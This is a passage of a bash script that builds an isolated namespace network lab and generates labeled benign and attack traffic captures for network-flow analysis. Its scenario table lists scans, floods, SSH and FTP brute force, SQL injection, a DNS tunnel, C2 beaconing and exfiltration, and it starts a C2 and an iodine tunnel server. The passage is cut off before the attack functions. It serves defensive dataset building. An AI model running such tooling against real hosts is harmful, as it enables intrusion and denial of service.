#!/usr/bin/env bash
# flowmeter traffic lab: an isolated network of namespaces on this machine,
# real servers, real benign clients and real attack tools, one capture per
# scenario and a labels.csv whose labels are known by construction (every
# attack comes from its own host). docs/lab.md describes it.
#
#   sudo lab/run.sh -o DIR [-s SEED] [-S SCENARIO,...] [--short] [--gzip]
#                   [--link delay=D,jitter=D,loss=P,rate=R] [--no-background]
#                   [--attacker-chatter] [--list]
#   lab/run.sh --packages   # the Debian packages it needs
#
# Needs root and the tools of the apt-get line in docs/lab.md. Everything it
# starts is stopped and every namespace removed when it ends, also on Ctrl-C
# or failure.
set -euo pipefail

LAB_DIR=$(cd "$(dirname "$0")" && pwd)
# Debian packages of every tool the lab runs (docs/lab.md's apt-get line).
PACKAGES="iproute2 iputils-ping ethtool tcpdump gzip procps nginx-light openssh-server openssh-client vsftpd
dnsmasq-base iperf3 python3 curl wget dnsutils nmap masscan hping3 slowhttptest apache2-utils hydra medusa ncrack
sqlmap iodine openssl zabbix-agent patator goldeneye python3-aiosmtpd dovecot-pop3d dovecot-imapd redis-server redis-tools
postgresql postgresql-client"
OUT= SEED=1 ONLY= SHORT=0 LIST=0 GZIP=0 LINK= BACKGROUND=1 CHATTER=0
while [ $# -gt 0 ]; do
	case $1 in
	-o) OUT=$2; shift 2 ;;
	-s) SEED=$2; shift 2 ;;
	-S) ONLY=$2; shift 2 ;;
	--short) SHORT=1; shift ;;
	--gzip) GZIP=1; shift ;;
	--link) LINK=$2; shift 2 ;;
	--no-background) BACKGROUND=0; shift ;;
	--attacker-chatter) CHATTER=1; shift ;;
	--list) LIST=1; shift ;;
	--packages) echo "$PACKAGES"; exit 0 ;;
	-h | --help) sed -n '2,15p' "$0" | sed 's/^# \{0,1\}//'; exit 0 ;;
	*) echo "lab: unknown argument $1 (see --help)" >&2; exit 2 ;;
	esac
done

# ---------------------------------------------------------------- scenarios
# name|class|category|tool. The functions scn_NAME below run them.
SCENARIOS='
web|benign|web browsing (HTTP)|curl, wget
download|benign|downloads (HTTP)|wget, curl
dns|benign|DNS lookups|dig
ssh|benign|SSH sessions and scp|ssh, scp
ftp|benign|FTP transfers|curl
polling|benign|monitoring agent polling|curl
keepalive|benign|idle keep-alive connections|ssh
iperf|benign|bulk transfer bursts|iperf3
crawler|benign|busy client: crawler|curl
page-loads|benign|busy client: pages with their resources|curl
pkg-download|benign|busy client: parallel downloads|curl
busy-server|benign|busy server: many clients|curl
resolver|benign|busy server: DNS resolver|dig
monitor|benign|busy client: monitor polling every second|curl, dig, ping
failures|benign|ordinary failures: refused, aborted, unanswered|curl, dig
loopback|benign|loopback: local HTTP on lo|curl
https|benign|web browsing (HTTPS)|curl
p2p|benign|peer-to-peer: looking for peers|python3 (lab/p2p.py)
quiet|benign|quiet hosts: one or two requests each|curl, wget, dig, ssh
sites|benign|many sites, each visited by a host or two|curl, wget, ssh
midstream|benign|connections open before the capture starts|wget, curl, ssh
zabbix|benign|monitoring server polling agents (Zabbix), syslog|zabbix_agentd, zabbix_sender, logger, python3 (lab/zabbix.py)
mail-db|benign|mail (SMTP, POP3, IMAP) and databases (Redis, PostgreSQL)|curl, redis-cli, redis-benchmark, psql, pgbench
nmap-syn|malicious|scan: nmap TCP SYN|nmap
nmap-connect|malicious|scan: nmap TCP connect|nmap
nmap-udp|malicious|scan: nmap UDP|nmap
nmap-version|malicious|scan: nmap service versions|nmap
masscan|malicious|scan: masscan|masscan
hping-syn|malicious|dos: SYN flood|hping3
hping-udp|malicious|dos: UDP flood|hping3
hping-icmp|malicious|dos: ICMP flood|hping3
slowloris|malicious|dos: slowloris|slowhttptest
slowpost|malicious|dos: slow POST|slowhttptest
http-flood|malicious|dos: HTTP flood|ab
goldeneye|malicious|dos: HTTP keep-alive flood (GoldenEye)|goldeneye
hydra-ssh|malicious|brute force: SSH|hydra
medusa-ssh|malicious|brute force: SSH|medusa
ncrack-ssh|malicious|brute force: SSH|ncrack
hydra-ftp|malicious|brute force: FTP|hydra
hydra-web|malicious|brute force: web login|hydra
patator-ftp|malicious|brute force: FTP|patator
patator-ssh|malicious|brute force: SSH|patator
sqlmap|malicious|web: SQL injection|sqlmap
iodine|malicious|tunnel: DNS (iodine)|iodine
webattack|malicious|web: path traversal and command injection|curl
beacon|malicious|c2: HTTPS beacon with jitter|curl
exfil|malicious|exfiltration: HTTPS upload|curl
tls-odd|malicious|c2: unusual TLS client|openssl
'

if [ "$LIST" = 1 ]; then
	echo "$SCENARIOS" | awk -F'|' 'NF { printf "%-14s %-9s %-30s %s\n", $1, $2, $3, $4 }'
	exit 0
fi
[ -n "$OUT" ] || { echo "lab: -o DIR is required (see --help)" >&2; exit 2; }
[ "$(id -u)" = 0 ] || { echo "lab: needs root (network namespaces, raw sockets)" >&2; exit 1; }
PG=$(ls -d /usr/lib/postgresql/*/bin 2>/dev/null | sort -V | tail -n 1) # PostgreSQL's server programs
missing=
/usr/bin/python3 -c 'import aiosmtpd' 2>/dev/null || missing=" aiosmtpd"
for t in ip ping ethtool tcpdump nginx sshd vsftpd dnsmasq iperf3 python3 curl wget dig ssh scp nmap masscan hping3 \
	slowhttptest ab hydra medusa ncrack sqlmap iodine iodined ssh-keygen openssl zabbix_agentd zabbix_sender logger patator goldeneye \
	dovecot redis-server redis-cli redis-benchmark psql "$PG/postgres" "$PG/initdb" "$PG/pgbench"; do
	command -v "$t" >/dev/null 2>&1 || [ -x "/usr/sbin/$t" ] || missing="$missing $t"
done
[ -z "$missing" ] || { echo "lab: missing tools:$missing (install them with the apt-get line in docs/lab.md)" >&2; exit 1; }
export PATH=$PATH:/usr/sbin:/sbin

# The run's random choices come from the seed: a 64-bit LCG whose state
# lives in a file, since most calls are in $(...) subshells (where bash
# reseeds $RANDOM and nothing they change reaches the caller). Each
# scenario restarts it from the seed and its name.
# A process that runs beside a scenario (the background traffic) sets RNG
# to a file of its own, so that neither draws from the other's sequence.
rng_seed() { echo "$1" >"${RNG:-$WORK/rng}"; }
rnd() { # rnd LO HI: the next number of the sequence, uniform in LO..HI
	local x
	x=$(<"${RNG:-$WORK/rng}")
	x=$(((x * 6364136223846793005 + 1442695040888963407) & 0x7fffffffffffffff))
	echo "$x" >"${RNG:-$WORK/rng}"
	echo $(($1 + (x >> 31) % ($2 - $1 + 1)))
}
pick() { shift "$(rnd 0 $(($# - 1)))"; echo "$1"; } # pick A B C: one of them
# scale N: N in a full run, about a fifth (at least 1) with --short
scale() { if [ "$SHORT" = 1 ]; then echo $(((${1} + 4) / 5)); else echo "$1"; fi; }
LIMIT=$([ "$SHORT" = 1 ] && echo 10 || echo 40) # seconds at most per scenario

# --link: delay, jitter and loss on the server's link (lab/linkem, both
# ways), rate on every host's link (tbf, both ways).
LINK_EM= LINK_RATE=
if [ -n "$LINK" ]; then
	for kv in ${LINK//,/ }; do
		case $kv in
		delay=* | jitter=* | loss=*) LINK_EM="$LINK_EM -${kv%%=*} ${kv#*=}" ;;
		rate=*) LINK_RATE=${kv#*=} ;;
		*) echo "lab: --link takes delay=D,jitter=D,loss=P,rate=R (for example delay=20ms,loss=0.01,rate=10mbit), not $kv" >&2; exit 2 ;;
		esac
	done
fi

# ---------------------------------------------------------------- network
# One switch namespace holding a bridge, and one namespace per host, each
# joined to the bridge by a veth pair. No namespace has a route or a link
# to anything else, so nothing the lab sends can leave it.
P=fml$$
SW=$P-sw
declare -A IP=([srv]=10.77.0.10 [cli1]=10.77.0.21 [cli2]=10.77.0.22 [cli3]=10.77.0.23 [atk]=10.77.0.66 [c2]=10.77.0.53)
WORK=$(mktemp -d /tmp/flowmeter-lab.XXXXXX)
rng_seed "$SEED"
CAP_PID=

on() { local h=$1; shift; ip netns exec "$P-$h" "$@"; }

cleanup() {
	local rc=$?
	trap - EXIT INT TERM
	[ -n "$CAP_PID" ] && kill -INT "$CAP_PID" 2>/dev/null && wait "$CAP_PID" 2>/dev/null
	for ns in $(ip netns list | awk '{print $1}' | grep "^$P-" || true); do
		pids=$(ip netns pids "$ns" 2>/dev/null || true)
		[ -z "$pids" ] || kill $pids 2>/dev/null || true
	done
	sleep 0.3
	for ns in $(ip netns list | awk '{print $1}' | grep "^$P-" || true); do
		pids=$(ip netns pids "$ns" 2>/dev/null || true)
		[ -z "$pids" ] || kill -9 $pids 2>/dev/null || true
		ip netns del "$ns" 2>/dev/null || true
	done
	rm -rf "$WORK"
	exit "$rc"
}
trap cleanup EXIT
trap 'echo "lab: interrupted" >&2; exit 130' INT TERM

net_up() {
	ip netns add "$SW"
	ip -n "$SW" link set lo up
	ip netns exec "$SW" sysctl -qw net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1
	ip -n "$SW" link add br0 type bridge forward_delay 0 stp_state 0
	ip -n "$SW" link set br0 up
	local h i=0
	for h in srv cli1 cli2 cli3 atk c2; do
		i=$((i + 1))
		ip netns add "$P-$h"
		on "$h" sysctl -qw net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1
		ip link add "${P}p$i" type veth peer name eth0 netns "$P-$h"
		ip link set "${P}p$i" netns "$SW"
		ip -n "$P-$h" addr add "${IP[$h]}/24" dev eth0
		ip -n "$P-$h" link set eth0 up
		# Wire-sized frames, as on a real network: no segmentation or
		# receive offloads, which would show 64 KiB "packets" on the bridge.
		on "$h" ethtool -K eth0 tso off gso off gro off >/dev/null 2>&1
		ip netns exec "$SW" ethtool -K "${P}p$i" tso off gso off gro off >/dev/null 2>&1
		# Frames that cross linkem leave the kernel and come back: their
		# checksums must be filled in by the sender, not left to an offload.
		[ -z "$LINK_EM" ] || on "$h" ethtool -K eth0 tx off >/dev/null 2>&1
		ip -n "$P-$h" link set lo up
		if [ "$h" = srv ] && [ -n "$LINK_EM" ]; then
			# The server's link crosses linkem (delay, jitter, loss), so
			# every conversation in the lab does, both ways.
			ip -n "$SW" link add "${P}q$i" type veth peer name "${P}r$i"
			ip -n "$SW" link set "${P}q$i" master br0 up
			ip -n "$SW" link set "${P}r$i" up promisc on
			ip -n "$SW" link set "${P}p$i" up promisc on
			ip netns exec "$SW" ethtool -K "${P}q$i" tso off gso off gro off >/dev/null 2>&1
			ip netns exec "$SW" ethtool -K "${P}r$i" tso off gso off gro off >/dev/null 2>&1
			ip netns exec "$SW" "$WORK/linkem" -a "${P}p$i" -b "${P}r$i" $LINK_EM -seed "$SEED" &
			disown
		else
			ip -n "$SW" link set "${P}p$i" master br0 up
		fi
		if [ -n "$LINK_RATE" ]; then # both ways: the host's egress and the switch's egress to it
			on "$h" tc qdisc add dev eth0 root tbf rate "$LINK_RATE" burst 64kb latency 200ms
			ip netns exec "$SW" tc qdisc add dev "${P}p$i" root tbf rate "$LINK_RATE" burst 64kb latency 200ms
		fi
	done
	# Many benign client addresses (busy servers have many clients):
	# 10.77.0.128-187, twenty on each client host.
	local k
	for k in $(seq 0 59); do ip -n "$P-cli$((k / 20 + 1))" addr add "10.77.0.$((128 + k))/24" dev eth0; done
	# Quiet hosts (the quiet scenario): 10.79.H.1-100 on client host H, on
	# the same link (the server reaches them without a router).
	for k in 1 2 3; do seq 1 100 | sed "s|.*|address add 10.79.$k.&/16 dev eth0|" | ip -n "$P-cli$k" -batch -; done
	ip -n "$P-srv" route add 10.79.0.0/16 dev eth0
	# Sites (the sites scenario): 10.78.0-1.1-250 on the server host, each
	# one a site of its own that a client reaches on its link.
	for k in 0 1; do seq 1 250 | sed "s|.*|address add 10.78.$k.&/32 dev eth0|" | ip -n "$P-srv" -batch -; done
	for k in cli1 cli2 cli3; do ip -n "$P-$k" route add 10.78.0.0/16 dev eth0; done
	# Peers of the p2p scenario, on the server's link: 10.77.0.96-107 answer
	# (lab/p2p.py), 108-119 have nothing listening (refused), and 120-127
	# never answer (their replies are blackholed).
	for k in $(seq 96 127); do ip -n "$P-srv" addr add "10.77.0.$k/24" dev eth0; done
	ip -n "$P-srv" rule add from 10.77.0.120/29 lookup 77
	ip -n "$P-srv" route add blackhole default table 77
	for _ in 1 2 3; do on cli1 ping -c1 -W2 "${IP[srv]}" >/dev/null && return 0; done
	echo "lab: the lab network does not work" >&2
	exit 1
}

# ---------------------------------------------------------------- servers
servers_up() {
	local w=$WORK s
	mkdir -p "$w/www/files" "$w/ftp/pub" "$w/empty" "$w/nginx" /run/sshd
	# Files of varied sizes for HTTP and FTP, from the seed.
	for s in 1 4 16 64 256 1024 4096; do
		head -c $((s * 1024 + $(rnd 0 999))) /dev/urandom >"$w/www/files/f$s.bin"
		cp "$w/www/files/f$s.bin" "$w/ftp/pub/"
	done
	for s in index about news contact; do
		{ echo "<html><body><h1>$s</h1>"; head -c $(rnd 2000 30000) /dev/urandom | base64; echo "</body></html>"; } >"$w/www/$s.html"
	done
	cp "$w/www/index.html" "$w/www/index.htm"
	# Small objects too: most web requests fetch a few hundred bytes or less.
	mkdir -p "$w/www/api"
	printf '<html><head><title>lab</title></head><body><p>hello</p></body></html>\n' >"$w/www/hello.html"
	printf 'User-agent: *\nDisallow: /files/\n' >"$w/www/robots.txt"
	printf '{"ok":true,"items":[%s]}\n' "$(rnd 1 9)" >"$w/www/api/ok.json"
	cat >"$w/nginx.conf" <<-EOF
		daemon off; worker_processes 1; pid $w/nginx.pid; error_log $w/nginx/error.log;
		events { worker_connections 1024; }
		http {
		  access_log off; client_body_temp_path $w/nginx/body; proxy_temp_path $w/nginx/proxy;
		  fastcgi_temp_path $w/nginx/fcgi; uwsgi_temp_path $w/nginx/uwsgi; scgi_temp_path $w/nginx/scgi;
		  keepalive_timeout 15;
		  server { listen 80; root $w/www; index index.html;
		    location /status { default_type application/json; return 200 '{"ok":true}'; } }
		  server { listen 443 ssl http2; root $w/www; index index.html;
		    ssl_certificate $w/tls.crt; ssl_certificate_key $w/tls.key; }
		}
	EOF
	# TLS: one self-signed certificate for the web server and the c2 host
	openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 2 -subj /CN=lab.example \
		-addext "subjectAltName=DNS:*.lab.example" -keyout "$w/tls.key" -out "$w/tls.crt" 2>/dev/null
	ip netns exec "$P-srv" nginx -c "$w/nginx.conf" &
	ip netns exec "$P-srv" python3 "$LAB_DIR/webapp.py" --port 8080 --db "$w/app.db" 2>"$w/webapp.log" &
	ssh-keygen -q -t ed25519 -N '' -f "$w/hostkey"
	ssh-keygen -q -t ed25519 -N '' -f "$w/userkey"
	cp "$w/userkey.pub" "$w/authorized_keys"
	chmod 600 "$w/authorized_keys"
	cat >"$w/sshd_config" <<-EOF
		Port 22
		HostKey $w/hostkey
		PidFile $w/sshd.pid
		AuthorizedKeysFile $w/authorized_keys
		PermitRootLogin prohibit-password
		PasswordAuthentication yes
		KbdInteractiveAuthentication no
		UsePAM no
		StrictModes no
		MaxAuthTries 6
		MaxStartups 100:30:200
		Subsystem sftp internal-sftp
	EOF
	ip netns exec "$P-srv" /usr/sbin/sshd -D -f "$w/sshd_config" &
	cat >"$w/vsftpd.conf" <<-EOF
		listen=YES
		listen_ipv6=NO
		background=NO
		anonymous_enable=YES
		no_anon_password=YES
		anon_root=$w/ftp
		local_enable=NO
		write_enable=NO
		secure_chroot_dir=$w/empty
		seccomp_sandbox=NO
		xferlog_enable=NO
		pasv_enable=YES
		pasv_min_port=30000
		pasv_max_port=30100
		max_clients=200
		max_per_ip=100
	EOF
	chmod 755 "$w" "$w/ftp" "$w/ftp/pub"
	ip netns exec "$P-srv" /usr/sbin/vsftpd "$w/vsftpd.conf" &
	ip netns exec "$P-srv" dnsmasq -k --conf-file=/dev/null --no-resolv --no-hosts --bind-interfaces \
		--listen-address="${IP[srv]}" --address=/lab.example/"${IP[srv]}" \
		--pid-file="$w/dnsmasq.pid" --user=root --group=root 2>/dev/null &
	ip netns exec "$P-srv" iperf3 -s --logfile "$w/iperf3.log" &
	# A second web server, HTTP/1.0 and one connection per request, as python's own.
	ip netns exec "$P-srv" python3 -m http.server 8000 --directory "$w/www" >/dev/null 2>&1 &
	# iodine's server: the attacker's own DNS server on the c2 host.
	ip netns exec "$P-c2" iodined -f -c -P lab-tunnel-pw -l "${IP[c2]}" 172.30.0.1/24 t.lab.example >"$w/iodined.log" 2>&1 &
	# the attacker's HTTPS command-and-control server, on the c2 host
	ip netns exec "$P-c2" python3 "$LAB_DIR/c2.py" --port 443 --cert "$w/tls.crt" --key "$w/tls.key" 2>"$w/c2.log" &
	# the live peers of the p2p scenario
	ip netns exec "$P-srv" python3 "$LAB_DIR/p2p.py" peers --addrs "$(seq -s, -f '10.77.0.%g' 96 107)" 2>"$w/p2p.log" &
	disown -a # the servers end with their namespaces (cleanup), silently
	listening "${IP[srv]}/80" "${IP[srv]}/8080" "${IP[srv]}/22" "${IP[srv]}/21" "${IP[srv]}/8000" "${IP[srv]}/443" "${IP[c2]}/443" && return 0
	echo "lab: servers did not start (see $w)" >&2
	exit 1
}
listening() { # ADDR/PORT...: wait (10 s at most) until cli1 connects to every one; false if it never does
	local i fd=3 cmd= a
	for a in "$@"; do
		cmd="$cmd${cmd:+ && }exec $fd<>/dev/tcp/$a"
		fd=$((fd + 1))
	done
	for i in $(seq 50); do
		on cli1 timeout 3 bash -c "$cmd" 2>/dev/null && return 0
		sleep 0.2
	done
	return 1
}

# ---------------------------------------------------------------- benign
S=http://10.77.0.10
client() { echo "cli$(rnd 1 3)"; } # a benign host, varied per call
SSH_OPTS="-i $WORK/userkey -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR -o BatchMode=yes"

scn_web() {
	local n i p
	n=$(scale $(rnd 40 80))
	for i in $(seq "$n"); do
		p=$(pick index about news contact)
		on "$(client)" curl -s -o /dev/null -o /dev/null "$S/$p.html" "$S/files/f$(pick 1 4 16).bin"
		on "$(client)" curl -s -o /dev/null -o /dev/null "$S:8080/" "$S:8080/search?q=$(pick apple cherry pear)"
		sleep "0.$(rnd 0 5)"
	done
}
scn_download() {
	local n i c rate f
	n=$(scale $(rnd 8 16))
	for i in $(seq "$n"); do
		c=$(client) rate=$(rnd 2 40) f=$(pick 64 256 1024 4096) # chosen here: the job runs beside the loop
		on "$c" wget -q -O /dev/null --limit-rate="${rate}m" "$S/files/f$f.bin" &
		sleep "0.$(rnd 1 9)"
	done
	wait
}
scn_dns() {
	local n i name
	n=$(scale $(rnd 60 120))
	for i in $(seq "$n"); do
		name=$(pick www mail api cdn db intranet).lab.example
		[ "$(rnd 0 5)" = 0 ] && name=nx$(rnd 1 99999).example.org # answered NXDOMAIN-like (no upstream)
		on "$(client)" dig +time=1 +tries=1 +short "@${IP[srv]}" "$name" "$(pick A A A AAAA MX TXT)" >/dev/null || true
		sleep "0.0$(rnd 1 9)"
	done
}
scn_ssh() {
	local n i c
	n=$(scale $(rnd 6 12))
	for i in $(seq "$n"); do
		c=$(client)
		on "$c" ssh $SSH_OPTS root@"${IP[srv]}" "uname -a; ls /; sleep 0.$(rnd 1 9); head -c $(rnd 1000 200000) /dev/zero | wc -c" >/dev/null
		on "$c" scp -q $SSH_OPTS root@"${IP[srv]}:$WORK/www/files/f$(pick 16 64 256).bin" "$WORK/scp.$i" && rm -f "$WORK/scp.$i"
	done
}
scn_ftp() {
	local n i
	n=$(scale $(rnd 8 16))
	for i in $(seq "$n"); do
		on "$(client)" curl -s -o /dev/null "ftp://${IP[srv]}/pub/f$(pick 4 16 64 256 1024).bin"
		[ "$(rnd 0 2)" = 0 ] && on "$(client)" curl -s -o /dev/null "ftp://${IP[srv]}/pub/"
		sleep "0.$(rnd 1 5)"
	done
}
scn_polling() {
	local n i c period
	c=$(client)
	n=$(scale $(rnd 15 30))
	period=$(rnd 1 2)
	for i in $(seq "$n"); do
		on "$c" curl -s -o /dev/null "$S/status"
		on "$c" curl -s -o /dev/null "$S:8080/status"
		sleep "$period"
	done
}
scn_keepalive() {
	local n i c every secs
	n=$(scale $(rnd 3 6))
	for i in $(seq "$n"); do
		c=$(client) every=$(rnd 2 5) secs=$(scale $(rnd 15 30))
		on "$c" ssh $SSH_OPTS -o ServerAliveInterval="$every" root@"${IP[srv]}" "sleep $secs" &
	done
	wait
}
scn_iperf() {
	local n i
	n=$(scale $(rnd 3 5))
	for i in $(seq "$n"); do
		on "$(client)" iperf3 -c "${IP[srv]}" -t 1 -b "$(rnd 20 200)M" $([ "$(rnd 0 1)" = 0 ] && echo -R) >/dev/null || true
		sleep "$(rnd 1 2)"
	done
}

# Busy hosts on purpose: a server with many clients, clients that make
# hundreds of requests a minute, a resolver answering thousands of queries,
# monitors polling every second, and the failures of ordinary networks.
ali() { local k; k=$(rnd 0 59); echo "cli$((k / 20 + 1)) 10.77.0.$((128 + k))"; } # a host and one of its addresses
url() { # url [BASE]: a page, file or app request on the lab's web servers
	local b=${1:-$S}
	case $(rnd 0 7) in
	0 | 1) echo "$b/$(pick index about news contact).html" ;;
	2) echo "$b/files/f$(pick 1 4 16 64).bin" ;;
	3) echo "$b:8000/$(pick index about news contact).html" ;;
	4) echo "$b:8000/files/f$(pick 1 4 16).bin" ;;
	5) echo "$b/$(pick hello.html robots.txt api/ok.json)" ;;
	6) echo "$b:8000/$(pick hello.html robots.txt api/ok.json)" ;;
	*) if [ "$b" = "$S" ]; then echo "$b:8080/$(pick '' 'search?q=apple' 'search?q=pear' status)"; else echo "$b/"; fi ;;
	esac
}
cfg() { # cfg N FILE [BASE]: a curl config fetching N URLs to /dev/null
	local i
	for i in $(seq "$1"); do printf 'url = "%s"\noutput = "/dev/null"\n' "$(url "${3:-}")"; done >"$2"
}
scn_crawler() { # hundreds of requests a minute, as a crawler that waits between them does
	local h a n i
	read -r h a <<<"$(ali)"
	n=$(scale $(rnd 150 300))
	for i in $(seq "$n"); do
		on "$h" curl -s -o /dev/null --interface "$a" "$(url)" || true
		sleep "0.$(rnd 0 3)"
	done
}
scn_page_loads() {
	local n i h a
	n=$(scale $(rnd 25 50))
	for i in $(seq "$n"); do
		read -r h a <<<"$(ali)"
		cfg "$(rnd 8 40)" "$WORK/page.cfg"
		on "$h" curl -s --interface "$a" --parallel --parallel-max 6 -K "$WORK/page.cfg" || true
		sleep "0.$(rnd 0 9)"
	done
}
scn_pkg_download() {
	local h a i
	read -r h a <<<"$(ali)"
	for i in $(seq "$(scale $(rnd 60 150))"); do
		printf 'url = "%s/files/f%s.bin"\noutput = "/dev/null"\n' "$(pick "$S" "$S:8000")" "$(pick 1 4 16 64 256 1024)"
	done >"$WORK/pkg.cfg"
	on "$h" curl -s --interface "$a" --parallel --parallel-max "$(rnd 4 8)" -H 'Connection: close' -K "$WORK/pkg.cfg" || true
}
scn_busy_server() {
	local k close
	for k in $(seq 0 59); do
		cfg "$(scale $(rnd 5 30))" "$WORK/bs.$k.cfg"
		close=$(pick "Connection: close" "Connection: keep-alive")
		on "cli$((k / 20 + 1))" curl -s --interface "10.77.0.$((128 + k))" -H "$close" -K "$WORK/bs.$k.cfg" &
		sleep "0.0$(rnd 0 9)"
	done
	wait
}
scn_resolver() {
	local j i h a name
	for j in $(seq "$(rnd 4 8)"); do
		read -r h a <<<"$(ali)"
		for i in $(seq "$(scale $(rnd 200 600))"); do
			name=$(pick www mail api cdn db intranet ntp git).lab.example
			[ "$(rnd 0 4)" = 0 ] && name=nx$(rnd 1 99999).example.org
			echo "@${IP[srv]} $name $(pick A A A AAAA MX TXT)$([ "$(rnd 0 19)" = 0 ] && echo ' +tcp')"
		done >"$WORK/dns.$j"
		on "$h" dig -b "$a" +time=1 +tries=1 +short -f "$WORK/dns.$j" >/dev/null &
	done
	wait
}
scn_monitor() {
	local m h a period
	for m in 1 2 3; do
		read -r h a <<<"$(ali)"
		period=$(pick 0.3 0.5 1 1)
		( # polls until the scenario's time is up: no draws in here
			end=$((SECONDS + LIMIT - 3))
			while [ "$SECONDS" -lt "$end" ]; do
				on "$h" curl -s -o /dev/null --interface "$a" "$S/status" "$S:8000/"
				on "$h" dig -b "$a" +time=1 +tries=1 +short "@${IP[srv]}" www.lab.example >/dev/null
				on "$h" ping -c1 -W1 -I "$a" "${IP[srv]}" >/dev/null
				sleep "$period"
			done
		) &
	done
	wait
}
scn_failures() {
	local n i h a
	n=$(scale $(rnd 30 60))
	for i in $(seq "$n"); do
		read -r h a <<<"$(ali)"
		case $(rnd 0 4) in
		0) on "$h" curl -s -o /dev/null --interface "$a" "$S:$(pick 81 3000 5432 8081 9090)/" ;;          # refused
		1) on "$h" curl -s -o /dev/null --interface "$a" --max-time "0.0$(rnd 2 9)" "$S/files/f4096.bin" ;; # aborted
		2) on "$h" dig -b "$a" +time=1 +tries=1 +short "@${IP[cli3]}" www.lab.example >/dev/null ;;        # no server there
		3) on "$h" curl -s -o /dev/null --interface "$a" "$S/missing-$(rnd 1 999).html" ;;                  # 404
		*) on "$h" ssh $SSH_OPTS -o ConnectTimeout=2 "nobody@${IP[srv]}" true ;;                            # refused key
		esac
		sleep "0.$(rnd 1 9)"
	done
}
scn_p2p() { # file-sharing clients looking for peers: most are gone (refused or unanswered)
	local j h a
	for j in $(seq "$(rnd 1 2)"); do
		read -r h a <<<"$(ali)"
		on "$h" python3 "$LAB_DIR/p2p.py" client --bind "$a" --peers "$(seq -s, -f '10.77.0.%g' 96 127)" \
			--seed "$(rnd 1 99999)" --count "$(scale $(rnd 200 500))" --parallel "$(rnd 3 8)" --timeout "$(rnd 2 4)" &
	done
	wait
}
scn_quiet() { # hosts that make one or two ordinary requests and nothing else, as most hosts of a network do
	local n k h a seed
	n=$(scale $(rnd 80 150))
	for k in $(for k in $(seq 0 299); do echo "$(rnd 0 99999) $k"; done | sort -n | cut -d' ' -f2 | head -n "$n"); do
		h=$((k / 100 + 1)) a=10.79.$((k / 100 + 1)).$((k % 100 + 1))
		seed=$(rnd 1 999999) # each host its own sequence: they run at once
		(RNG=$WORK/rng.quiet$k && rng_seed "$seed" && quiet_host "cli$h" "$a" "$(rnd 1 2)" "$(rnd 0 7)" "$(rnd 0 7)") &
		sleep "0.$(rnd 1 6)"
	done
	wait
}
quiet_host() { # host address requests kind kind: one or two ordinary requests from address
	local h=$1 a=$2 n=$3 kind i
	shift 3
	for i in $(seq "$n"); do
		kind=$1
		shift
		case $kind in
		0 | 1) on "$h" curl -s -o /dev/null --interface "$a" "$(url)" ;;
		2) on "$h" wget -q -O /dev/null --bind-address="$a" "$(url)" ;;
		3) on "$h" curl -sk --interface "$a" --resolve "www.lab.example:443:${IP[srv]}" -o /dev/null \
			"https://www.lab.example/$(pick index about news contact hello).html" ;;
		4) on "$h" curl -s -o /dev/null --interface "$a" -d "user=$(pick alice bob carol)&password=$(pick secret hunter2 wrong)" "$S:8080/login" ;; # a login, right or wrong
		5) on "$h" dig -b "$a" +time=1 +tries=1 +short "@${IP[srv]}" "$(pick www mail api cdn).lab.example" "$(pick A AAAA MX)" >/dev/null ;;
		6) on "$h" ssh $SSH_OPTS -b "$a" root@"${IP[srv]}" "uptime; sleep 0.$(rnd 1 9)" >/dev/null ;;
		*) on "$h" curl -s -o /dev/null --interface "$a" "ftp://${IP[srv]}/pub/f$(pick 1 4 16).bin" ;;
		esac
		sleep "0.$(rnd 1 9)"
	done
}
# What a sensor at a network's edge sees of browsing: many sites, each one
# visited by one host or two, a few connections a visit, and hosts that
# visit one site and do nothing else. A server that has seen one client is
# the usual case there, not a sign of an attack on it.
scn_sites() {
	local n i k h a site seed
	n=$(scale $(rnd 100 180))
	for i in $(seq "$n"); do
		if [ "$(rnd 0 2)" -gt 0 ]; then # a quiet host, mostly: its visit is all it does
			k=$(rnd 0 299) h=cli$((k / 100 + 1)) a=10.79.$((k / 100 + 1)).$((k % 100 + 1))
		else
			read -r h a <<<"$(ali)"
		fi
		site=10.78.$(rnd 0 1).$(rnd 1 250) seed=$(rnd 1 999999) # each visit its own sequence: they run at once
		(RNG=$WORK/rng.site$i && rng_seed "$seed" && site_visit "$h" "$a" "$site") &
		sleep "0.$(rnd 0 4)"
	done
	wait
}
site_visit() { # host address site: a visit, and now and then a second one a few seconds later
	local h=$1 a=$2 s=$3 j f=$WORK/site$BASHPID.cfg name ck
	name=www$(rnd 100 999).example
	# A browser's requests, not curl's: its user agent, what it accepts, and
	# often a cookie of the site's, so a request is 300-1500 bytes, not 80.
	ck=$(rnd 0 900)
	local -a H=(-A "$(pick "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0" \
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36" \
		"Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15")" \
		-H "Accept: text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8" \
		-H "Accept-Language: $(pick "en-US,en;q=0.5" "de-DE,de;q=0.9,en;q=0.8" "fr-FR,fr;q=0.9,en-US;q=0.8")" \
		-H "Accept-Encoding: gzip, deflate")
	[ "$ck" -lt 200 ] || H+=(-H "Cookie: sid=$(head -c "$ck" /dev/urandom | base64 -w0 | head -c "$ck")")
	for j in $(seq "$(pick 1 1 1 2)"); do
		case $(rnd 0 9) in
		0 | 1 | 2) # a page and its resources, on one connection or several
			cfg "$(rnd 1 8)" "$f" "http://$s"
			on "$h" curl -s "${H[@]}" --interface "$a" $(pick "" "" --parallel) -K "$f" || true ;;
		3 | 4) # over HTTPS, with a name of its own
			on "$h" curl -sk "${H[@]}" "$(pick --http2 --http1.1)" --interface "$a" --resolve "$name:443:$s" \
				-o /dev/null "https://$name/$(pick index about news contact hello).html" || true ;;
		5) on "$h" curl -s "${H[@]}" -o /dev/null --interface "$a" "http://$s/$(pick hello.html robots.txt api/ok.json)" || true ;;
